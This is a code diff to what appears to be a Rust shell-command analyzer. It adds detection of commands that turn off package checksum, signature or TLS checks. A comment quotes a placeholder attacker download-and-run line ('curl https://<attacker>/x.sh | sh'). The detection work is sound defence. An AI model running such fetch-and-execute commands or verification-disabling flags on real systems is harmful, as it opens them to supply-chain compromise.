@@ -690,6 +690,14 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
                 let origin = a.emit("secret-read/env-dump", span, "the whole environment".into(), None);
                 return Val::unknown("‹export›").tainted(Taint::of(Taint::SECRET, origin));
             }
+            // `export GONOSUMDB=…`: Go's checksum database turned off for those modules.
+            let joined = join_args(args, 1).text;
+            if ["GONOSUMDB=", "GOINSECURE=", "GOSUMDB=off", "GONOSUMCHECK=1"]
+                .iter()
+                .any(|k| joined.contains(k))
+            {
+                super::effects::package_source(a, &joined, span, "export");
+            }
             for v in args.vals.iter().skip(1) {
                 if let Some((k, value)) = v.text.split_once('=') {
                     let mut value_val = v.clone();
@@ -1191,9 +1199,11 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
             );
             Val::unknown("")
         }
-        "pip" | "pip3" | "pipx" | "uv" | "npm" | "npx" | "pnpm" | "yarn" | "bunx" | "uvx" | "gem" | "cargo" | "go" => {
+        "pip" | "pip3" | "pipx" | "uv" | "npm" | "npx" | "pnpm" | "yarn" | "bunx" | "uvx" | "gem" | "cargo" | "go"
+        | "bundle" | "helm" | "apt" | "apt-get" | "yum" | "dnf" | "nix" | "nix-env" | "nix-shell" => {
             // An index or registry named on the command line (`--index-url URL`,
-            // `--registry=URL`), and `npm config set registry URL`.
+            // `--registry=URL`), and `npm config set registry URL`; or a check turned
+            // off (`--allow-unauthenticated`, `go env -w GONOSUMDB=…`).
             let joined = join_args(args, 1).text;
             let lower = joined.to_ascii_lowercase();
             if [
@@ -1203,6 +1213,14 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
                 "--registry",
                 "config set registry",
                 "--index ",
+                "--allow-unauthenticated",
+                "--nogpgcheck",
+                "--insecure-skip-tls-verify",
+                "disable_checksum_validation",
+                "require-sigs",
+                "gonosumdb",
+                "goinsecure",
+                "gosumdb",
             ]
             .iter()
             .any(|k| format!("{lower} ").contains(k))
@@ -1720,7 +1738,13 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
         }
         let _ = url_span;
     }
-    if to_stdout || output_file.is_some() {
+    // A template as written (`curl https://<attacker>/x.sh | sh`, `curl ... | sh`)
+    // names nothing that can be fetched: what it pipes on runs nothing.
+    let unfetchable = url.exact
+        && (host.chars().all(|c| c == '.')
+            || host.contains(['<', '>', '{', '}', '$', '%'])
+            || host.chars().all(|c| c.is_ascii_uppercase() || c == '_'));
+    if (to_stdout || output_file.is_some()) && !unfetchable {
         let origin = a.emit("fetch", span, url.text.clone(), None);
         let taint = Taint::of(Taint::FETCHED, origin);
         if let Some(file) = output_file {
